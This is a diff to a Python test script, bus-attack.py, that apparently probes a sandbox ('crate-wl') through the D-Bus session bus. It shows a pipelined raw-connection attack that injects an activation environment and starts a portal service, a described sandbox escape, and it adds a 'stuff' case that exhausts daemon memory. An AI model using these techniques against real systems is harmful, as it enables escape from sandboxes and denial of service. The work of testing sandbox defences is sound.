@@ -9,7 +9,9 @@ usage: bus-attack.py attack HOST_SO MARKER   the whole escape: pid, env,
        bus-attack.py names                   the portal's names, after
                                              crate-wl took them
        bus-attack.py hold                    connect, then sleep
-       bus-attack.py flood N                 N refused calls, then sleep"""
+       bus-attack.py flood N                 N refused calls, then sleep
+       bus-attack.py stuff MB                MB of messages for a connection
+                                             that never reads, then sleep"""
 import os
 import shutil
 import socket
@@ -53,15 +55,10 @@ def wait_portal(bus, seconds):
     Gio.bus_unwatch_name(watch)
 
 
-def pipelined(env):
-    """The attack at its fastest: authentication, Hello, the environment
-    and the start in one write on the app's first connection, which
-    waits in the socket's backlog until the daemon runs: the daemon reads
-    it all before crate-wl can even connect."""
+def raw_connection(calls):
+    """A connection of our own making: authentication and calls (member,
+    args) in one write; returns the socket and the replies by serial."""
     path = os.environ["DBUS_SESSION_BUS_ADDRESS"].split("unix:path=")[1]
-    calls = [("Hello", None),
-             ("UpdateActivationEnvironment", GLib.Variant("(a{ss})", (env,))),
-             ("StartServiceByName", GLib.Variant("(su)", (PORTAL, 0)))]
     out = b"\0AUTH EXTERNAL %s\r\nBEGIN\r\n" % str(os.getuid()).encode().hex().encode()
     for serial, (member, args) in enumerate(calls, 1):
         msg = Gio.DBusMessage.new_method_call(DBUS[0], DBUS[1],
@@ -93,6 +90,18 @@ def pipelined(env):
         serial = msg.get_reply_serial()
         if serial:
             answered[serial] = msg
+    return sock, answered
+
+
+def pipelined(env):
+    """The attack at its fastest: authentication, Hello, the environment
+    and the start in one write on the app's first connection, which
+    waits in the socket's backlog until the daemon runs: the daemon reads
+    it all before crate-wl can even connect."""
+    calls = [("Hello", None),
+             ("UpdateActivationEnvironment", GLib.Variant("(a{ss})", (env,))),
+             ("StartServiceByName", GLib.Variant("(su)", (PORTAL, 0)))]
+    sock, answered = raw_connection(calls)
     for serial, (member, _) in enumerate(calls, 1):
         msg = answered[serial]
         name = {"UpdateActivationEnvironment": "env",
@@ -227,6 +236,27 @@ def flood(count):
     time.sleep(60)
 
 
+def stuff(megabytes):
+    bus = Gio.bus_get_sync(Gio.BusType.SESSION, None)
+    wait_portal(bus, 10)
+    # a connection that says Hello, then never reads again
+    sink, answered = raw_connection([("Hello", None)])
+    name = answered[1].get_body().unpack()[0]
+    chunk = GLib.Variant("(ay)", (b"x" * (512 << 10),))
+    for _ in range(megabytes * 2):
+        msg = Gio.DBusMessage.new_method_call(name, "/x", "org.example.X",
+                                              "Stuff")
+        msg.set_body(chunk)
+        msg.set_flags(Gio.DBusMessageFlags.NO_REPLY_EXPECTED)
+        bus.send_message(msg, Gio.DBusSendMessageFlags.NONE)
+    # GDBus writes them from a thread of its own, as fast as the daemon
+    # reads: a bounded daemon stops reading, an unbounded one takes all
+    time.sleep(3)
+    say("stuffed %d MB" % megabytes)
+    time.sleep(60)
+    sink.close()
+
+
 case = sys.argv[1]
 if case == "attack":
     attack(sys.argv[2], sys.argv[3])
@@ -238,5 +268,7 @@ elif case == "hold":
     hold()
 elif case == "flood":
     flood(int(sys.argv[2]))
+elif case == "stuff":
+    stuff(int(sys.argv[2]))
 else:
     sys.exit("unknown case " + case)
